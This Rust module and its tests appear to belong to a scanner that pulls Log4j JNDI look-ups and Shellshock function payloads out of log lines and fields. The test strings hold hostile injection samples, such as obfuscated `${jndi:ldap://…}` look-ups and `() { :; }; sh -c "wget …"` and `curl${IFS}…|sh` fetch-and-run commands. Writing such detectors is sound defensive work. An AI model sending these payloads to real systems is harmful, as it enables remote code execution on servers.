//! What an attacker writes into a field of any kind so that whatever reads it runs it: `${jndi:…}`, `() { :; }; …`.

/// Where a payload stands, and hence where it ends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Place {
    /// A field of its own, in which everything behind the mark is the payload's.
    Field,
    /// A line that tells of other things too: in an access log the page stands behind it that the client says it came from, in JSON the next
    /// field.
    Line,
}

/// Look-ups of Log4j: what stands between the braces, and names a kind of look-up with a colon. The variables of a shell name none, and
/// what is fetched stands behind them: `curl${IFS}http://…`.
pub(super) fn look_ups(text: &str, place: Place) -> impl Iterator<Item = &str> {
    let closed = closed_look_ups(text);
    let mut from = 0;
    std::iter::from_fn(move || {
        let start = from + text[from..].find(MARK)? + MARK.len();
        let end = closed.binary_search_by_key(&start, |(start, _)| *start);
        let end = end.ok().map(|found| closed[found].1);
        let inside = match end {
            Some(end) => &text[start..end],
            // It may have been cut.
            None => cut(&text[start..], place, &["\""]),
        };
        from = start + inside.len();
        if inside.contains(':') {
            return Some(inside);
        }
        // No further than to the next mark, or each of many would be asked for the end of all.
        let behind = &text[from..];
        let word = &behind[..behind.find(MARK).unwrap_or(behind.len())];
        let word = &word[..word.find(|c: char| c.is_whitespace() || c == '"').unwrap_or(word.len())];
        from += word.len();
        Some(word)
    })
}

/// What the shell runs behind a function that comes in a variable. The functions of programs have names before the brackets.
pub(super) fn behind_functions(text: &str, place: Place) -> impl Iterator<Item = &str> {
    const MARK: &str = "() {";
    let mut from = 0;
    std::iter::from_fn(move || {
        loop {
            let at = from + text[from..].find(MARK)?;
            let is_named = text[..at].ends_with(|c: char| c.is_alphanumeric() || c == '_');
            if is_named {
                from = at + MARK.len();
                continue;
            }
            // A command has quotation marks of its own: only what stands between the fields of a line ends it.
            let behind = cut(&text[at..], place, &["\" \"", "\",\"", "\", \""]);
            from = at + behind.len();
            return Some(behind);
        }
    })
}

const MARK: &str = "${";

/// What comes before the first of some ends that have no sign before them; of a field, all of it.
fn cut<'t>(text: &'t str, place: Place, ends: &[&str]) -> &'t str {
    if place == Place::Field {
        return text;
    }
    let marks = text.match_indices('"').map(|(at, _)| at);
    let mut marks = marks.filter(|at| !text[..*at].ends_with('\\'));
    let end = marks.find(|at| ends.iter().any(|end| text[*at..].starts_with(end)));
    &text[..end.unwrap_or(text.len())]
}

/// Where the insides of look-ups begin and end whose braces close, in their order.
fn closed_look_ups(text: &str) -> Vec<(usize, usize)> {
    let (mut open, mut closed) = (Vec::new(), Vec::new());
    if !text.contains(MARK) {
        return closed;
    }
    for (at, byte) in text.bytes().enumerate() {
        if byte == b'{' {
            open.push(at + 1);
        } else if byte == b'}'
            && let Some(start) = open.pop()
            && text[..start].ends_with(MARK)
        {
            closed.push((start, at));
        }
    }
    closed.sort_unstable();
    closed
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_look_up_ends_with_its_brace_or_with_what_was_quoted() {
        for (text, expected) in [
            (
                "x=${jndi:ldap://a/b}&y=http://c ${d:e}",
                &["jndi:ldap://a/b", "d:e"][..],
            ),
            (
                "${${lower:j}ndi:${lower:l}dap://a}",
                &["${lower:j}ndi:${lower:l}dap://a"],
            ),
            (
                r#""GET /${jndi:ldap://a HTTP/1.1" 200 "http://c""#,
                &["jndi:ldap://a HTTP/1.1"],
            ),
            (
                r#""${jndi:${env:":-}ldap://a}" "http://c""#,
                &[r#"jndi:${env:":-}ldap://a"#],
            ),
            (r#"5" ${a:x(["b","http://d"])} "c""#, &[r#"a:x(["b","http://d"])"#]),
            (r#"{"a":"${jndi:ldap://\"a}b"}"#, &[r#"jndi:ldap://\"a"#]),
            (r#""${a:\"b http://c"d"#, &[r#"a:\"b http://c"#]),
            ("${", &[""]),
            ("$ {a:b} {a:b}", &[]),
        ] {
            assert_eq!(look_ups(text, Place::Line).collect::<Vec<_>>(), expected, "{text}");
        }
        let unclosed = r#"${jndi:ldap://"a" "b","c"#;
        assert_eq!(look_ups(unclosed, Place::Field).collect::<Vec<_>>(), [&unclosed[2..]]);
    }

    #[test]
    fn behind_the_variable_of_a_shell_stands_the_rest_of_its_word() {
        for (text, expected) in [
            (r#"";curl${IFS}http://a/b|sh" "http://c""#, &["}http://a/b|sh"][..]),
            ("curl${IFS}-o${IFS}x${IFS}http://a b", &["}-o", "}x", "}http://a"]),
            (r#"?x=${name}:1 "https://own""#, &["}:1"]),
            ("${a}${jndi:b c}", &["}", "jndi:b c"]),
        ] {
            for place in [Place::Field, Place::Line] {
                assert_eq!(look_ups(text, place).collect::<Vec<_>>(), expected, "{text}");
            }
        }
    }

    #[test]
    fn each_part_of_a_text_is_looked_at_once() {
        for piece in ["${a}", "${a}() {", "${a:", "\"${a:\" ", "${a", "\"() {\" "] {
            let text = format!("\"{}", piece.repeat(30_000));
            for place in [Place::Field, Place::Line] {
                let found = look_ups(&text, place).chain(behind_functions(&text, place));
                let length: usize = found.map(str::len).sum();
                assert!(length <= 2 * text.len(), "{piece}");
            }
        }
    }

    #[test]
    fn what_a_shell_runs_ends_with_its_field() {
        for (text, expected) in [
            (
                r#"1 "() { :; }; sh -c "wget a/b"" "http://c""#,
                r#"() { :; }; sh -c "wget a/b""#,
            ),
            (r#"{"a":"() { :; }; \"x\" y","b":"http://c"}"#, r#"() { :; }; \"x\" y"#),
            (r#"{"a": "() { a", "b": "http://c"}"#, "() { a"),
            (r#"5" () { :; }; echo "a" ; wget b"#, r#"() { :; }; echo "a" ; wget b"#),
            ("() { a", "() { a"),
        ] {
            let found: Vec<_> = behind_functions(text, Place::Line).collect();
            assert_eq!(found, [expected], "{text}");
        }
        let field = r#"() { :; }; x "a" "b","c" d"#;
        assert_eq!(behind_functions(field, Place::Field).collect::<Vec<_>>(), [field]);
        for named in ["function() { a", "x_() { a"] {
            assert_eq!(behind_functions(named, Place::Line).count(), 0, "{named}");
        }
    }
}
